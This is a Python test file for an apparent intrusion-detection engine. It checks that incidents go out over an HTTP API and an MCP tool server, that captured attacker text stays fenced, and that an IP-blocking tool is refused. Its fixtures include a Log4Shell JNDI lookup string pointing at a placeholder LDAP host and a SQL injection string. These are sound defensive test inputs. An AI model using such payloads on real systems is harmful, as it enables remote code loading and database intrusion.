"""Both doors on a whole engine: an event comes in, and everything about it goes out."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from functools import partial
from pathlib import Path

import httpx
import httpx2
import pytest
from mcp import Client
from mcp.client.streamable_http import streamable_http_client

from engine.agent.recorded import RecordedHost
from engine.config import Settings
from engine.core import Engine
from engine.edge import token
from engine.edge.http import HttpDoor
from engine.edge.late import LateDoor
from engine.edge.mcp import McpDoor
from engine.edge.view import Door
from engine.intake import Intake, Reader
from engine.plan import Plan
from engine.sources.pcapfile import PcapFile
from engine.types import Event, Fault
from tests.engine.edge.test_mcp import everything, outside
from tests.factories import ATTACKER, conversation, pcap_file

MARK = "PLANTEDINTHEPAYLOAD"
JNDI = f"GET /{MARK} HTTP/1.1\r\nHost: {MARK}.example\r\nUser-Agent: ${{jndi:ldap://198.51.100.7/a}}\r\n\r\n".encode()
LINE = f"2023-10-09T11:23:00Z 203.0.113.77:40000 192.0.2.1:8080 sql-injection GET /?id=1' or 1=1-- {MARK}"


def _open(file: Path) -> Reader:
    return Intake(PcapFile(file), max_flows=1000)


@contextlib.asynccontextmanager
async def whole(folder: Path, *more: Door) -> AsyncIterator[tuple[str, str, str, list[Event]]]:
    """Run an engine on a capture of one attack, with both doors open; give addresses, token and events."""
    loop = asyncio.get_running_loop()
    http, mcp = (loop.create_future() for _ in range(2))
    file = folder / "token"
    events: list[Event] = []
    plan = Plan(
        source="test.pcap",
        title="test.pcap",
        open_readers=[partial(_open, pcap_file(folder / "a.pcap", conversation(JNDI)))],
        settings=Settings(),
        database=folder / "aegis.db",
        knowledge=folder / "knowledge.db",
        lockstep=True,
        local_ips=("192.0.2.1",),
        host=RecordedHost(),
        doors=(HttpDoor(0, file, http.set_result), LateDoor("mcp", lambda: McpDoor(0, file, mcp.set_result)), *more),
    )
    engine = Engine(plan, on_event=events.append)
    async with asyncio.TaskGroup() as tasks:
        running = tasks.create_task(engine.run(stay=True))
        try:
            async with asyncio.timeout(120):
                await engine.finished.wait()
                yield await http, await mcp, token.read(file), events
        finally:
            running.cancel()


async def test_an_incident_goes_out_by_both_doors_and_its_captured_text_in_fences(tmp_path: Path) -> None:
    async with whole(tmp_path) as (http, mcp, key, _):
        headers = {"Authorization": f"Bearer {key}"}
        async with httpx.AsyncClient(base_url=http, headers=headers, timeout=60) as client:
            incident = (await client.get("/incidents")).json()["incidents"][0]
            shown = await client.get(f"/incidents/{incident['id']}")
            report = await client.get(f"/incidents/{incident['id']}/report")
        async with (
            httpx2.AsyncClient(headers=headers) as carrier,
            Client(streamable_http_client(mcp, http_client=carrier)) as asker,
        ):
            about = {"incident_id": incident["id"]}
            names = [tool.name for tool in (await asker.list_tools()).tools]
            told = [await asker.call_tool("show_incident", about), await asker.call_tool("list_incidents", {})]
            flow_id = shown.json()["alerts"][0]["flow"]["id"]
            payload = {**about, "flow_id": flow_id, "direction": "to_server"}
            told.append(await asker.call_tool("flow_payload", payload))
            told.append(await asker.call_tool("related_alerts", {**about, "ip": ATTACKER}))
            told.append(await asker.call_tool("search_knowledge", {"query": "log4shell"}))
            read = await asker.read_resource(f"aegis://incidents/{incident['id']}/report")
            refused = await asker.call_tool("block_malicious_ip", about)
    assert (incident["target_ip"], shown.status_code, report.status_code) == (ATTACKER, 200, 200)
    assert {"flow_payload", "related_alerts", "search_knowledge", "triage_event"} <= set(names)
    answers = [one.model_dump(mode="json") for one in (*told, read, refused)]
    assert any(MARK in everything(answer) for answer in answers)
    assert not any(MARK in outside(answer) for answer in answers)
    assert [one.is_error for one in told] == [False] * len(told)
    assert refused.is_error


async def test_a_reported_event_is_judged_by_both_doors(tmp_path: Path) -> None:
    async with whole(tmp_path) as (http, mcp, key, _):
        headers = {"Authorization": f"Bearer {key}"}
        async with httpx.AsyncClient(base_url=http, headers=headers, timeout=60) as client:
            answer = await client.post("/chat/analysis", json={"query": LINE})
            streamed = await client.post("/chat/analysis", json={"query": LINE, "stream": True})
        async with (
            httpx2.AsyncClient(headers=headers) as carrier,
            Client(streamable_http_client(mcp, http_client=carrier)) as asker,
        ):
            told = await asker.call_tool("triage_event", {"line": LINE})
    assert answer.status_code == 200, answer.text
    assert (answer.json()["target_ip"], answer.json()["classification"]["event_class"]) == (
        "203.0.113.77",
        "sql_injection",
    )
    result = json.loads(streamed.text.rsplit("data: ", 1)[1])
    assert (streamed.text.count("event: step\n") > 0, result["target_ip"]) == (True, "203.0.113.77")
    assert told.structured_content["event_classes"] == ["sql_injection"]
    assert MARK not in outside(told.model_dump(mode="json"))


async def test_a_door_that_cannot_open_is_a_fault_and_the_engine_runs_on(tmp_path: Path) -> None:
    readable = tmp_path / "readable"
    readable.write_text("a" * 43, encoding="ascii")
    readable.chmod(0o644)
    async with whole(tmp_path, HttpDoor(0, readable)) as (_, _, _, events):
        faults = [event for event in events if isinstance(event, Fault) and event.ability == "http"]
    assert "others may use it" in faults[0].message


@pytest.mark.parametrize("module", ["aegis_tui.commands.live", "aegis_tui.commands.serve", "engine.core"])
def test_nothing_of_a_door_is_loaded_before_it_is_opened(module: str) -> None:
    import subprocess
    import sys

    heavy = ("mcp", "mcp_types", "starlette", "uvicorn", "sse_starlette", "pydantic")
    code = f"import sys, {module}; print([name for name in {heavy!r} if name in sys.modules])"
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout == "[]\n"
